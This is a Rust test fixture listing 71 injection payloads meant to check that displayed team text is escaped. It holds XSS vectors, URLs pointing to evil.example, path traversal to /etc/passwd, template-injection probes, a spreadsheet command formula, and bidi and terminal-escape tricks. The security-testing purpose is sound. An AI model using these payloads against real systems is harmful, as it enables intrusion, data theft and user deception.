//! Words that want to be more than words. Each is put into every place where the text of a team is shown.
//!
//! What runs sets `window.__pwned`, which the browser's checks look for; what asks the network asks `evil.example`; what is
//! computed by a template gives [`COMPUTED`].

/// What a template gives that reads words as its own. No hash and no date holds it.
pub const COMPUTED: &str = "7140307";

/// The words of somebody who means no harm: what the markup of all others is compared with.
pub const PLAIN: &str = "plain words";

pub const PAYLOADS: [&str; 71] = [
    // Elements and attributes, out of every sort of place that text stands in.
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "</template><img src=x onerror=window.__pwned=1>",
    "</textarea></style></noscript></xmp><img src=x onerror=window.__pwned=1>",
    "\"><img src=x onerror=window.__pwned=1>",
    "'><img src=x onerror=window.__pwned=1>",
    "--><img src=x onerror=window.__pwned=1><!--",
    "]]><img src=x onerror=window.__pwned=1><![CDATA[",
    "\" onmouseover=\"window.__pwned=1\" autofocus onfocus=\"window.__pwned=1\" x=\"",
    "' onclick='window.__pwned=1' x='",
    "`onload=window.__pwned=1 x=`",
    "x onclick=window.__pwned=1 tabindex=1",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "<img src=x onerror=window.__pwned=1//",
    "<\u{0}script>window.__pwned=1</script>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to=javascript:window.__pwned=1 /><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:window.__pwned=1></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<math href=\"javascript:window.__pwned=1\"><mi xlink:href=\"javascript:window.__pwned=1\">x</mi></math>",
    "<details open ontoggle=window.__pwned=1>x</details>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<object data=\"javascript:window.__pwned=1\"></object><embed src=\"javascript:window.__pwned=1\">",
    "<form action=https://evil.example/><button formaction=javascript:window.__pwned=1>x</button>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<body onload=window.__pwned=1><frameset onload=window.__pwned=1>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</div>",
    "<img src=https://evil.example/p.png srcset=\"https://evil.example/q.png 2x\">",
    "<video poster=https://evil.example/p.png><source onerror=window.__pwned=1></video>",
    "<a href=\"javascript:window.__pwned=1\" ping=https://evil.example/>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "<plaintext><xmp><textarea>",
    "<slot name=x></slot><template shadowrootmode=open><script>window.__pwned=1</script></template>",
    // Addresses.
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1//",
    " \u{1}javascript:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "java\nscript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "&#x6A;avascript&#58;window.__pwned=1",
    "java\u{200b}script:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "https:evil.example",
    "https://evil.example/\"onmouseover=\"window.__pwned=1",
    "mailto:a@evil.example?body=\"><script>window.__pwned=1</script>",
    "file:///etc/passwd",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    // Templates, of ours and of others.
    "{{ 1337 * 5340 + 727 }}",
    "{% raw %}{{ 1337 * 5340 + 727 }}{% include \"home.html\" %}",
    "{# x #}${1337 * 5340 + 727}<%= 1337 * 5340 + 727 %>",
    "{ $title }{{ __tera_context }}{{ get_env(name=\"PATH\") }}",
    // What programs that read our files take for more than text.
    "__proto__",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e\u{2028}\u{2029}",
    "=cmd|'/C calc'!A0",
    "a\r\nBEGIN:VEVENT\r\nURL:javascript:window.__pwned=1\r\nEND:VEVENT",
    // Signs that hide, turn around or command.
    "\u{202e}gpj.exe\u{2066}\u{feff}\u{200d}",
    "\u{1b}[2J\u{1b}]0;x\u{7}\u{7f}\u{85}\u{9b}31m",
];
